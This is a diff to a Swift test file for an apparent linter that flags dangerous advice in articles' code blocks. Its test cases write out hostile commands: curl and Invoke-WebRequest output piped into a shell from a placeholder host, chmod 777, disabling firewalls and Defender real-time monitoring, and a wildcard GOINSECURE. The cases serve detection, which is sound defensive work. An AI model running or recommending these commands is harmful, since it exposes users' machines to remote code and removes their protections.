@@ -25,6 +25,14 @@ func article(_ body: String) -> Article {
         ("sh", "sudo chmod -R 777 /usr/local/go", "chmod-777"),
         ("sh", "curl -fsSL https://x.example/install.sh | sudo bash", "curl-pipe-shell"),
         ("powershell", "iwr https://x.example/i.ps1 | iex", "curl-pipe-shell"),
+        // Every alternative of a pattern, in any case: the needles that let a block skip the
+        // line-by-line match must never hide one.
+        ("sh", "sudo systemctl disable firewalld", "firewall-off"),
+        ("sh", "sudo UFW disable", "firewall-off"),
+        ("cmd", "SETX PATH \"C:\\Go\\bin\"", "setx-path"),
+        ("powershell", "Set-MpPreference -disablerealtimemonitoring 1", "defender-realtime-off"),
+        ("powershell", "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression", "curl-pipe-shell"),
+        ("sh", "GO ENV -W GoInsecure=*", "goinsecure-wildcard"),
     ])
     func flagsDangerousAdvice(language: String, line: String, rule: String) throws {
         let a = article("```\(language)\necho first\n\(line)\n```\n")
